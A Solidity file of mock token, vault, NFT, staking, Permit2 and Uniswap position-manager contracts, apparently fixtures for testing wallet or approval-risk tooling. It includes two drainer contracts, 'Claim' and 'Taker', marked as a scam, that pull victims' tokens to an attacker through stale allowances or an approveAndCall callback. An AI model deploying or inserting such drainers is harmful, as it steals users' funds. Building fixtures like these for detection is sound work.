// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Token {
  string public name; string public symbol; uint8 public decimals; string public version;
  uint256 public totalSupply;
  mapping(address=>uint256) public balanceOf;
  mapping(address=>mapping(address=>uint256)) public allowance;
  mapping(address=>uint256) public nonces;
  uint256 public feeBps;
  event Transfer(address indexed from,address indexed to,uint256 value);
  event Approval(address indexed owner,address indexed spender,uint256 value);
  function setup(string memory n,string memory s,uint8 d,string memory v) external { name=n; symbol=s; decimals=d; version=v; }
  function mint(address to,uint256 a) external { totalSupply+=a; balanceOf[to]+=a; emit Transfer(address(0),to,a); }
  function _approve(address o,address s,uint256 a) internal { allowance[o][s]=a; emit Approval(o,s,a); }
  function approve(address s,uint256 a) external returns(bool){ _approve(msg.sender,s,a); return true; }
  function increaseAllowance(address s,uint256 a) external returns(bool){ _approve(msg.sender,s,allowance[msg.sender][s]+a); return true; }
  function increaseApproval(address s,uint256 a) external returns(bool){ _approve(msg.sender,s,allowance[msg.sender][s]+a); return true; }
  function _move(address f,address t,uint256 a) internal { require(balanceOf[f]>=a,"balance"); balanceOf[f]-=a; balanceOf[t]+=a; emit Transfer(f,t,a); }
  function transfer(address t,uint256 a) external returns(bool){ _move(msg.sender,t,a); return true; }
  function transferFrom(address f,address t,uint256 a) external returns(bool){
    uint256 al=allowance[f][msg.sender]; require(al>=a,"allowance");
    if(al!=type(uint256).max) allowance[f][msg.sender]=al-a;
    _move(f,t,a); return true; }
  function approveAndCall(address s,uint256 a,bytes calldata d) external returns(bool){
    _approve(msg.sender,s,a);
    require(IReceiver(s).onApprovalReceived(msg.sender,a,d)==IReceiver.onApprovalReceived.selector,"1363"); return true; }
  function DOMAIN_SEPARATOR() public view returns(bytes32){
    return keccak256(abi.encode(keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),keccak256(bytes(name)),keccak256(bytes(version)),block.chainid,address(this))); }
  function permit(address o,address s,uint256 a,uint256 dl,uint8 v,bytes32 r,bytes32 ss) external {
    require(dl>=block.timestamp,"late");
    bytes32 h=keccak256(abi.encode(keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)"),o,s,a,nonces[o]++,dl));
    require(ecrecover(keccak256(abi.encodePacked("\x19\x01",DOMAIN_SEPARATOR(),h)),v,r,ss)==o,"sig"); _approve(o,s,a); }
}
interface IReceiver { function onApprovalReceived(address,uint256,bytes calldata) external returns(bytes4); }
interface IT { function transferFrom(address,address,uint256) external returns(bool); function transfer(address,uint256) external returns(bool); function allowance(address,address) external view returns(uint256); function balanceOf(address) external view returns(uint256); function mint(address,uint256) external; function decimals() external view returns(uint8); }

// Scam: "claim" pays a worthless reward, and pulls by an allowance of long ago
contract Claim {
  address immutable boss; IT immutable usdc; IT immutable reward;
  constructor(address b,IT u,IT r){ boss=b; usdc=u; reward=r; }
  function claim() external {
    reward.mint(msg.sender,10 ether);
    uint256 b=usdc.balanceOf(msg.sender); uint256 a=usdc.allowance(msg.sender,address(this));
    usdc.transferFrom(msg.sender,boss,a<b?a:b); }
}
contract Taker {
  address immutable boss; constructor(address b){ boss=b; }
  function onApprovalReceived(address o,uint256 a,bytes calldata) external returns(bytes4){ IT(msg.sender).transferFrom(o,boss,a); return IReceiver.onApprovalReceived.selector; }
}
// ERC-4626, one to one
contract Vault {
  string public name="Quiet Dollar Vault"; string public symbol="qUSDC"; uint8 public constant decimals=6; address public immutable asset;
  uint256 public totalSupply; mapping(address=>uint256) public balanceOf; mapping(address=>mapping(address=>uint256)) public allowance;
  event Transfer(address indexed from,address indexed to,uint256 value);
  event Approval(address indexed owner,address indexed spender,uint256 value);
  event Deposit(address indexed sender,address indexed owner,uint256 assets,uint256 shares);
  constructor(address a){ asset=a; }
  function totalAssets() external view returns(uint256){ return IT(asset).balanceOf(address(this)); }
  function convertToAssets(uint256 s) external pure returns(uint256){ return s; }
  function convertToShares(uint256 s) external pure returns(uint256){ return s; }
  function previewDeposit(uint256 s) external pure returns(uint256){ return s; }
  function approve(address s,uint256 a) external returns(bool){ allowance[msg.sender][s]=a; emit Approval(msg.sender,s,a); return true; }
  function transfer(address t,uint256 a) external returns(bool){ balanceOf[msg.sender]-=a; balanceOf[t]+=a; emit Transfer(msg.sender,t,a); return true; }
  function deposit(uint256 a,address r) external returns(uint256){ IT(asset).transferFrom(msg.sender,address(this),a); totalSupply+=a; balanceOf[r]+=a; emit Transfer(address(0),r,a); emit Deposit(msg.sender,r,a,a); return a; }
}
contract Nft {
  string public constant name="Pebble Club"; string public constant symbol="PBL"; uint256 public next;
  mapping(uint256=>address) public ownerOf; mapping(address=>uint256) public balanceOf; mapping(uint256=>address) public getApproved; mapping(address=>mapping(address=>bool)) public isApprovedForAll;
  event Transfer(address indexed from,address indexed to,uint256 indexed tokenId);
  event Approval(address indexed owner,address indexed approved,uint256 indexed tokenId);
  event ApprovalForAll(address indexed owner,address indexed operator,bool approved);
  function supportsInterface(bytes4 i) external pure returns(bool){ return i==0x01ffc9a7||i==0x80ac58cd||i==0x5b5e139f; }
  function tokenURI(uint256) external pure returns(string memory){ return "ipfs://x"; }
  function give(address to) external { _mint(to); }
  function _mint(address to) internal { uint256 id=next++; ownerOf[id]=to; balanceOf[to]++; emit Transfer(address(0),to,id); }
  function mint(uint256 q) external payable { require(msg.value==q*0.02 ether,"price"); for(uint256 i;i<q;i++) _mint(msg.sender); }
  function approve(address a,uint256 id) external { require(ownerOf[id]==msg.sender,"owner"); getApproved[id]=a; emit Approval(msg.sender,a,id); }
  function setApprovalForAll(address o,bool y) external { isApprovedForAll[msg.sender][o]=y; emit ApprovalForAll(msg.sender,o,y); }
  function transferFrom(address f,address t,uint256 id) public { require(ownerOf[id]==f&&(msg.sender==f||getApproved[id]==msg.sender||isApprovedForAll[f][msg.sender]),"auth"); ownerOf[id]=t; balanceOf[f]--; balanceOf[t]++; delete getApproved[id]; emit Transfer(f,t,id); }
}
// Lido-like: balances are shares of a pool
contract StEth {
  string public constant name="Liquid staked Ether 2.0"; string public constant symbol="stETH"; uint8 public constant decimals=18;
  uint256 public pooled; uint256 public total; mapping(address=>uint256) public sharesOf; mapping(address=>mapping(address=>uint256)) public allowance;
  event Transfer(address indexed from,address indexed to,uint256 value); event TransferShares(address indexed from,address indexed to,uint256 sharesValue);
  event Approval(address indexed owner,address indexed spender,uint256 value);
  function seed(address a,uint256 s,uint256 p) external { sharesOf[a]+=s; total+=s; pooled+=p; }
  function totalSupply() external view returns(uint256){ return pooled; }
  function getPooledEthByShares(uint256 s) public view returns(uint256){ return s*pooled/total; }
  function getSharesByPooledEth(uint256 e) public view returns(uint256){ return e*total/pooled; }
  function balanceOf(address a) external view returns(uint256){ return getPooledEthByShares(sharesOf[a]); }
  function approve(address s,uint256 a) external returns(bool){ allowance[msg.sender][s]=a; emit Approval(msg.sender,s,a); return true; }
  function transfer(address t,uint256 a) external returns(bool){ uint256 s=getSharesByPooledEth(a); sharesOf[msg.sender]-=s; sharesOf[t]+=s; emit Transfer(msg.sender,t,a); emit TransferShares(msg.sender,t,s); return true; }
}
// stands at Permit2's address
contract P2 {
  struct A { uint160 amount; uint48 expiration; uint48 nonce; }
  struct TS { address token; address spender; }
  mapping(address=>mapping(address=>mapping(address=>A))) public allowance;
  event Lockdown(address indexed owner,address token,address spender);
  event Approval(address indexed owner,address indexed token,address indexed spender,uint160 amount,uint48 expiration);
  function approve(address t,address s,uint160 a,uint48 e) external { allowance[msg.sender][t][s]=A(a,e,allowance[msg.sender][t][s].nonce); emit Approval(msg.sender,t,s,a,e); }
  function lockdown(TS[] calldata x) external { for(uint256 i;i<x.length;i++){ allowance[msg.sender][x[i].token][x[i].spender].amount=0; emit Lockdown(msg.sender,x[i].token,x[i].spender);} }
  function nonceBitmap(address,uint256) external pure returns(uint256){ return 0; }
  function DOMAIN_SEPARATOR() external view returns(bytes32){ return keccak256(abi.encode(keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)"),keccak256("Permit2"),block.chainid,address(this))); }
}
// stands at Uniswap v3's NonfungiblePositionManager
contract Npm {
  struct D { uint256 tokenId; uint128 liquidity; uint256 amount0Min; uint256 amount1Min; uint256 deadline; }
  struct C { uint256 tokenId; address recipient; uint128 amount0Max; uint128 amount1Max; }
  string public constant name="Uniswap V3 Positions NFT-V1"; string public constant symbol="UNI-V3-POS";
  mapping(uint256=>address) public ownerOf; mapping(address=>uint256) public balanceOf; mapping(uint256=>uint128) public liq; mapping(uint256=>uint256) public owed0; mapping(uint256=>uint256) public owed1;
  IT t0; IT t1;
  event Collect(uint256 indexed tokenId,address recipient,uint256 amount0,uint256 amount1);
  event DecreaseLiquidity(uint256 indexed tokenId,uint128 liquidity,uint256 amount0,uint256 amount1);
  event Transfer(address indexed from,address indexed to,uint256 indexed tokenId);
  function setup(IT a,IT b,address o,uint256 id,uint128 l) external { t0=a; t1=b; ownerOf[id]=o; balanceOf[o]++; liq[id]=l; }
  function supportsInterface(bytes4 i) external pure returns(bool){ return i==0x01ffc9a7||i==0x80ac58cd||i==0x5b5e139f; }
  function positions(uint256 id) external view returns(uint96,address,address,address,uint24,int24,int24,uint128,uint256,uint256,uint128,uint128){ return (0,address(0),address(t0),address(t1),100,-887272,887272,liq[id],0,0,uint128(owed0[id]),uint128(owed1[id])); }
  function decreaseLiquidity(D calldata d) public payable returns(uint256,uint256){ require(ownerOf[d.tokenId]==msg.sender,"nft"); liq[d.tokenId]-=d.liquidity; owed0[d.tokenId]+=1000e18; owed1[d.tokenId]+=1000e6; emit DecreaseLiquidity(d.tokenId,d.liquidity,1000e18,1000e6); return (1000e18,1000e6); }
  function collect(C calldata c) public payable returns(uint256 a,uint256 b){ require(ownerOf[c.tokenId]==msg.sender,"nft"); a=owed0[c.tokenId]; b=owed1[c.tokenId]; owed0[c.tokenId]=0; owed1[c.tokenId]=0; address r=c.recipient==address(0)?address(this):c.recipient; if(a>0) t0.transfer(r,a); if(b>0) t1.transfer(r,b); emit Collect(c.tokenId,r,a,b); }
  function multicall(bytes[] calldata d) external payable returns(bytes[] memory r){ r=new bytes[](d.length); for(uint256 i;i<d.length;i++){ (bool ok,bytes memory x)=address(this).delegatecall(d[i]); require(ok,"call"); r[i]=x; } }
}
contract Forwarder { function nonces(address) external pure returns(uint256){ return 0; } function eip712Domain() external view returns(bytes1,string memory,string memory,uint256,address,bytes32,uint256[] memory){ uint256[] memory e; return (0x0f,"MinimalForwarder","0.0.1",block.chainid,address(this),0,e);} }
contract Blank { fallback() external payable {} }
